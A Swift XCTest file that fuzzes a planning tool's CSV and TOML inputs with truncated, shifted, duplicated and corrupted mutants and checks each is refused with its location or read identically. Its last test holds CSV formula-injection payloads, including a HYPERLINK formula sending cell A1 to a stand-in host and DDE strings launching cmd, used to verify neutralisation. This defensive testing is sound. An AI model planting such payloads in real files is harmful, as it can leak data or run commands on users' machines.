import FenjieCore
import Foundation
import TestSupport
import XCTest

import FenjiePlanning
@testable import FenjieFiles
@testable import FenjieReports

/// Issue 17: mutants of the shipped dataset and scenario made the way files really break (rows
/// shifted, cells split by an unquoted comma, files cut at every row and inside rows, NUL and
/// control characters, duplicate names and columns, oversized cells, injection payloads), and some
/// that change nothing that matters (CRLF, a byte-order mark, rows in another order, full-width
/// digits, quoted cells). The oracle is not "no crash": each mutant is either refused with a located
/// message (the file, and the row or line where there is one), or read into exactly the same dataset
/// and settings as the original (compared as a canonical dump), or, for a file that ends inside its
/// last row, read with a warning saying so. Never anything in between.
final class StructuredFuzzTests: XCTestCase {
  enum Expect {
    /// Refused, with a row or line in the message.
    case refusedAtARow
    /// Refused, naming at least the file.
    case refused
    /// Read exactly as the original.
    case same
    /// Refused, or read exactly as the original (a cell the reader ignores, e.g. a notes column).
    case refusedOrSame
    /// Refused, read as the original, or read with a warning that the file may be cut.
    case refusedSameOrWarned
  }

  struct Mutant {
    var label: String
    var file: String
    var data: Data
    var expect: Expect
  }

  var directory: URL!
  var files: [String: Data] = [:]
  var originalDump = ""
  var originalScenario: Scenario!

  override func setUpWithError() throws {
    directory = FileManager.default.temporaryDirectory.appendingPathComponent("fenjie-structured-\(UUID())")
    try FileManager.default.createDirectory(at: directory, withIntermediateDirectories: true)
    let liangxi = packageRoot.appendingPathComponent("Scenarios/liangxi")
    for name in ["dataset.toml", "targets.csv", "streets-2024.csv"] {
      files[name] = try Data(contentsOf: liangxi.appendingPathComponent(name))
    }
    var scenario = try String(contentsOf: packageRoot.appendingPathComponent("Scenarios/liangxi-2025.toml"), encoding: .utf8)
    scenario = scenario.replacingOccurrences(of: "liangxi/dataset.toml", with: "dataset.toml")
    scenario += "\n[[lock]]\nindicator = \"高新技术企业申报数\"\narea = \"扬名街道\"\nvalue = 90\n\n[[shock]]\nindicator = \"foreign_experts\"\nyear = 2026\nchange = -0.15\n"
    files["scenario.toml"] = Data(scenario.utf8)
    originalScenario = try load(files).get()
    originalDump = Self.dump(originalScenario)
  }

  override func tearDownWithError() throws { try? FileManager.default.removeItem(at: directory) }

  func load(_ files: [String: Data]) -> Result<Scenario, InputErrors> {
    for (name, data) in files { try! data.write(to: directory.appendingPathComponent(name)) }
    do { return .success(try ScenarioLoader.load(directory.appendingPathComponent("scenario.toml").path)) } catch { return .failure(error) }
  }

  /// What was read, without where it sat in the files: a mutant that reads "the same" must give
  /// exactly these lines.
  static func dump(_ scenario: Scenario) -> String {
    let d = scenario.dataset
    var lines = ["region \(d.region)", "areas \(d.areas.joined(separator: ","))", "years \(d.planYears)"]
    for i in d.indicators {
      lines.append("indicator \([i.id, i.name, i.unit, i.kind.rawValue, i.action, i.parent ?? "", i.aliases.joined(separator: "|"), i.numeratorName ?? "", i.numeratorUnit ?? ""].joined(separator: " ¦ "))")
    }
    for (id, years) in d.targets.sorted(by: { $0.key < $1.key }) {
      for (year, value) in years.sorted(by: { $0.key < $1.key }) { lines.append("target \(id) \(year) \(value)") }
    }
    for (id, goal) in d.threeYearGoals.sorted(by: { $0.key < $1.key }) { lines.append("goal \(id) \(goal)") }
    for table in d.tables.sorted(by: { ($0.year, $0.kind.rawValue) < ($1.year, $1.kind.rawValue) }) {
      lines.append("table \(table.year) \(table.kind) \(table.fractionOfYear ?? -1) \(table.provenance.source) \(table.provenance.illustrative)")
      for (id, row) in table.values.sorted(by: { $0.key < $1.key }) {
        for (area, value) in row.sorted(by: { $0.key < $1.key }) { lines.append("cell \(id) \(area) \(value)") }
      }
    }
    for (year, value) in d.industrialOutput.sorted(by: { $0.key < $1.key }) { lines.append("output \(year) \(value)") }
    lines.append("note \(d.industrialOutputNote ?? "")")
    return lines.joined(separator: "\n")
  }

  static func difference(_ a: String, _ b: String) -> String {
    let x = a.components(separatedBy: "\n")
    let y = b.components(separatedBy: "\n")
    return (Set(x).subtracting(y).sorted().prefix(3).map { "+ " + $0 } + Set(y).subtracting(x).sorted().prefix(3).map { "- " + $0 }).joined(separator: "\n")
  }

  func text(_ name: String) -> String { String(decoding: files[name]!, as: UTF8.self) }

  func lines(_ name: String) -> [String] {
    var lines = text(name).components(separatedBy: "\n")
    if lines.last == "" { lines.removeLast() }
    return lines
  }

  func mutant(_ label: String, _ file: String, _ lines: [String], _ expect: Expect, finalNewline: Bool = true) -> Mutant {
    Mutant(label: label, file: file, data: Data((lines.joined(separator: "\n") + (finalNewline ? "\n" : "")).utf8), expect: expect)
  }

  // MARK: Mutants

  func mutants() -> [Mutant] {
    var result: [Mutant] = []
    var g = TestGenerator(seed: 0x17)
    for file in ["targets.csv", "streets-2024.csv"] {
      let rows = lines(file)
      for r in 1..<rows.count {
        // Truncated at a row boundary: rows are missing.
        result.append(mutant("\(file) cut after row \(r)", file, Array(rows.prefix(r)), .refused))
        // Cut inside row r + 1, with no line end.
        let cut = Array(rows.prefix(r)) + [String(rows[r].prefix(rows[r].count / 2))]
        result.append(mutant("\(file) cut inside row \(r + 1)", file, cut, .refusedAtARow, finalNewline: false))
        guard r % 2 == 1 else { continue }  // the rest on every other row, to keep the test to seconds
        // A row shifted by a stray cell.
        var cells = rows[r].components(separatedBy: ",")
        cells.insert("", at: Int.random(in: 1..<cells.count, using: &g))
        var shifted = rows
        shifted[r] = cells.joined(separator: ",")
        result.append(mutant("\(file) row \(r + 1) shifted", file, shifted, .refusedAtARow))
        // A number written with an unquoted thousands separator.
        if let c = rows[r].components(separatedBy: ",").lastIndex(where: { Double($0) != nil && $0.count >= 2 }) {
          var cells = rows[r].components(separatedBy: ",")
          cells[c] = "1," + String(repeating: "0", count: 3)
          var split = rows
          split[r] = cells.joined(separator: ",")
          result.append(mutant("\(file) row \(r + 1) split by a comma", file, split, .refusedAtARow))
        }
        // A row repeated.
        var repeated = rows
        repeated.insert(rows[r], at: r)
        result.append(mutant("\(file) row \(r + 1) repeated", file, repeated, .refusedAtARow))
      }
      // The last row cut inside its last cell: all cells there, no line end.
      result.append(mutant("\(file) last cell cut", file, Array(rows.dropLast()) + [String(rows.last!.dropLast())], .refusedSameOrWarned, finalNewline: false))
      // Columns duplicated.
      for c in 0..<rows[0].components(separatedBy: ",").count {
        let duplicated = rows.map { line -> String in
          let cells = line.components(separatedBy: ",")
          return (cells + [cells[c]]).joined(separator: ",")
        }
        result.append(mutant("\(file) column \(columnLetter(c)) duplicated", file, duplicated, .refusedOrSame))
      }
      // Oversized cells: a whole cell, and a name.
      for (r, size) in [(3, 20_000), (5, 150)] {
        var cells = rows[r].components(separatedBy: ",")
        cells[1] = String(repeating: "长", count: size)
        var oversized = rows
        oversized[r] = cells.joined(separator: ",")
        result.append(mutant("\(file) row \(r + 1) cell of \(size) characters", file, oversized, file == "targets.csv" || size > 10_000 ? .refusedAtARow : .refusedOrSame))
      }
      // What changes nothing: CRLF, a byte-order mark, rows in another order, full-width digits,
      // quoted cells, trailing empty columns.
      result.append(Mutant(label: "\(file) CRLF", file: file, data: Data(text(file).replacingOccurrences(of: "\n", with: "\r\n").utf8), expect: .same))
      result.append(Mutant(label: "\(file) BOM", file: file, data: Data([0xEF, 0xBB, 0xBF]) + files[file]!, expect: .same))
      if file != "targets.csv" {  // the targets file's order is the order of the lines in every report
        result.append(mutant("\(file) rows reversed", file, [rows[0]] + rows.dropFirst().reversed(), .same))
      }
      result.append(mutant("\(file) full-width digits", file, [rows[0]] + rows.dropFirst().map { line in
        String(line.unicodeScalars.map { ("0"..."9").contains($0) ? Character(UnicodeScalar($0.value + 0xFEE0)!) : Character($0) })
      }, .same))
      result.append(mutant("\(file) cells quoted", file, rows.map { line in
        line.contains("\"") ? line : line.components(separatedBy: ",").map { "\"" + $0 + "\"" }.joined(separator: ",")
      }, .same))
      result.append(mutant("\(file) text after a closing quote", file, rows.enumerated().map { r, line in
        r == 3 ? line.replacingOccurrences(of: ",家,", with: ",\"家\"x,") : line
      }, .refusedAtARow))
      result.append(mutant("\(file) trailing empty columns", file, rows.map { $0 + ",," }, .same))
    }
    // NUL and control characters anywhere in any file.
    for file in files.keys.sorted() {
      let data = files[file]!
      for character: UInt8 in [0x00, 0x07, 0x1B, 0x7F] {
        for _ in 0..<3 {
          var damaged = data
          // At a character boundary (an ASCII byte), so the text stays UTF-8.
          var i = Int.random(in: 0..<data.count, using: &g)
          while data[i] >= 0x80 || data[i] == 0x0A { i = (i + 1) % data.count }
          damaged.insert(character, at: i)
          result.append(Mutant(label: "\(file) byte \(String(format: "%02X", character)) at \(i)", file: file, data: damaged, expect: file.hasSuffix(".csv") ? .refusedAtARow : .refusedAtARow))
        }
      }
    }
    // Duplicate names.
    let targets = lines("targets.csv")
    var renamed = targets
    renamed[4] = renamed[4].replacingOccurrences(of: ",雏鹰企业,", with: ",高新技术企业申报数,")
    result.append(mutant("targets.csv one name under two ids", "targets.csv", renamed, .refusedAtARow))
    var twice = targets
    twice[4] = twice[4].replacingOccurrences(of: "eaglet_firms,", with: "hitech_applications,")
    result.append(mutant("targets.csv one id twice", "targets.csv", twice, .refusedAtARow))
    var years = targets
    years[0] = years[0].replacingOccurrences(of: ",2026,", with: ",2025,")
    result.append(mutant("targets.csv two 2025 columns", "targets.csv", years, .refusedAtARow))
    for area in ["\"\"", "\"扬名 街道\"", "\"扬名街道 \"", "\"" + String(repeating: "街", count: 120) + "\"", "\"崇安寺街道\""] {
      let dataset = text("dataset.toml").replacingOccurrences(of: "\"扬名街道\"", with: area)
      result.append(Mutant(label: "dataset.toml area \(area.prefix(12))", file: "dataset.toml", data: Data(dataset.utf8), expect: .refusedAtARow))
    }
    return result
  }

  func testEveryMutantIsRefusedWithItsPlaceOrReadExactly() throws {
    let start = Date()
    var counts: [String: Int] = [:]
    for mutant in mutants() {
      var changed = files
      changed[mutant.file] = mutant.data
      let outcome = load(changed)
      defer { try? files[mutant.file]!.write(to: directory.appendingPathComponent(mutant.file)) }
      switch outcome {
      case .failure(let errors):
        counts["refused", default: 0] += 1
        XCTAssertFalse(errors.errors.isEmpty, mutant.label)
        XCTAssertFalse([Expect.same].contains(where: { "\($0)" == "\(mutant.expect)" }), "\(mutant.label): refused a file that means the same: \(errors)")
        for error in errors.errors {
          XCTAssertTrue(error.file.hasSuffix(".csv") || error.file.hasSuffix(".toml"), "\(mutant.label): an error that names no file: \(error)")
          XCTAssertLessThan(error.description.count, 1500, "\(mutant.label): a message that echoes the input")
        }
        if case .refusedAtARow = mutant.expect {
          XCTAssertTrue(errors.errors.contains { $0.row != nil && $0.file.hasSuffix(mutant.file) }, "\(mutant.label): refused without the row or line: \(errors)")
        }
      case .success(let scenario):
        let same = Self.dump(scenario) == originalDump && scenario.settings == originalScenario.settings
          && scenario.simulation == originalScenario.simulation
        let warned = !scenario.dataset.readingWarnings.isEmpty
        counts[same ? (warned ? "same, warned" : "same") : "warned"] = (counts[same ? (warned ? "same, warned" : "same") : "warned"] ?? 0) + 1
        switch mutant.expect {
        case .refused, .refusedAtARow:
          XCTFail("\(mutant.label): accepted (\(same ? "read the same" : "read differently"))")
        case .same, .refusedOrSame:
          XCTAssertTrue(same, "\(mutant.label): read differently without a word: \(Self.difference(Self.dump(scenario), originalDump))")
        case .refusedSameOrWarned:
          XCTAssertTrue(same || warned, "\(mutant.label): read differently without a word")
        }
      }
    }
    let seconds = Date().timeIntervalSince(start)
    print("structured fuzz: \(counts.sorted { $0.key < $1.key }.map { "\($0.value) \($0.key)" }.joined(separator: ", ")) in \(String(format: "%.1f", seconds)) s")
    XCTAssertGreaterThan(counts["refused", default: 0], 200)
    XCTAssertGreaterThan(counts["same", default: 0], 10)
  }

  /// Injection payloads in names: refused, or read verbatim and neutralised in every CSV cell.
  func testInjectionPayloadsAreReadVerbatimAndNeutralised() throws {
    let payloads = ["=HYPERLINK(\"http://x.example/\"&A1,\"点我\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
    for payload in payloads {
      var rows = lines("targets.csv")
      rows[4] = rows[4].replacingOccurrences(of: ",雏鹰企业,", with: ",\"\(payload.replacingOccurrences(of: "\"", with: "\"\""))\",")
      var changed = files
      changed["targets.csv"] = Data((rows.joined(separator: "\n") + "\n").utf8)
      switch load(changed) {
      case .failure(let errors):
        XCTAssertTrue(errors.errors.allSatisfy { $0.row != nil }, "\(payload): \(errors)")
      case .success(let scenario):
        let line = try XCTUnwrap(scenario.dataset.indicator("eaglet_firms"))
        XCTAssertEqual(line.name, payload, "read verbatim")
        let result = try Allocator(dataset: scenario.dataset, settings: scenario.settings).allocate()
        let csv = AllocationReport(result).render(.csv)
        XCTAssertTrue(csv.contains(",'\(payload.first!)") || csv.contains(",\"'\(payload.first!)"), "\(payload): \(csv.prefix(300))")
        XCTAssertFalse(csv.contains(",\(payload.first!)\(payload.dropFirst().prefix(3))"), "\(payload) reached a cell's start")
      }
    }
  }
}
